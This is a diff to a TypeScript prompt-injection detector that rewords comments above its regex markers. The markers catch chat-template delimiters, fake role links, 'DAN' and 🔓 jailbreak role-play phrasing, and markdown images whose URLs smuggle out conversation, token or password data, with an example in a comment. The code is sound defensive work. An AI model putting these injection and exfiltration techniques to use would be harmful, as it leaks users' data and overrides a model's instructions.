@@ -11,9 +11,9 @@ interface Marker {
 
 const marker = (type: FindingType, hint: string, expression: RegExp): Marker => ({ type, hint, expression })
 
-/** Signs rather than words. Expressions are bounded: every repetition has an upper limit. */
+/** Markers instead of words. Every repetition in the expressions has an upper limit. */
 const MARKERS: readonly Marker[] = [
-  // Delimiters of chat templates: only a client's library writes them, and not into content.
+  // Delimiters of chat templates, which do not occur in normal content.
   marker(
     'injection.override',
     '<|',
@@ -32,13 +32,13 @@ const MARKERS: readonly Marker[] = [
     '](#',
     /\[(?:system|assistant|user)\]\(#(?:instructions?|context|message|inner_monologue|error|suggestions|assistant|user)\)/gi,
   ),
-  // Images fetched from an address that carries data: `![x](https://host/?q={conversation})`.
+  // Images whose address contains data: `![x](https://host/?q={conversation})`.
   marker(
     'injection.exfiltration',
     '![',
     /!\[[^\][\n]{0,200}\]\(<?https?:\/\/[^\s()]{1,200}\?[^\s()]{0,400}(?:\{[^\s{}()]{1,80}\}|\[[^\s[\]()]{1,80}\]|<[^\s<>()]{1,80}>|(?:[?&](?:data|history|conversation|chat|prompt|secret|leak|exfil|payload|message|messages|context|memory|memories|creds?|password|token|apikey|api_key|info|content)=)[^\s()&]{24,400})[^\s()]{0,400}\)?/gi,
   ),
-  // DAN in capitals, beside a word that makes it a part to play.
+  // DAN in capitals beside a word that makes it a role.
   marker(
     'injection.role_play',
     'DAN',
@@ -48,7 +48,7 @@ const MARKERS: readonly Marker[] = [
   marker('injection.role_play', '🔓', /🔓 ?(?:jailbreak|developer|output|unlocked)/giu),
 ]
 
-/** The last characters of the hints, all rare in prose: one look tells most texts that no hint is there. */
+/** Last characters of the hints. They are rare in prose, so one search excludes all markers in most texts. */
 const ENDS = MARKERS.map(({ hint }) => hint.charCodeAt(hint.length - 1))
 const SIGNS = new RegExp(`[${classOf(ENDS.map((unit) => [unit, unit]))}]`)
 
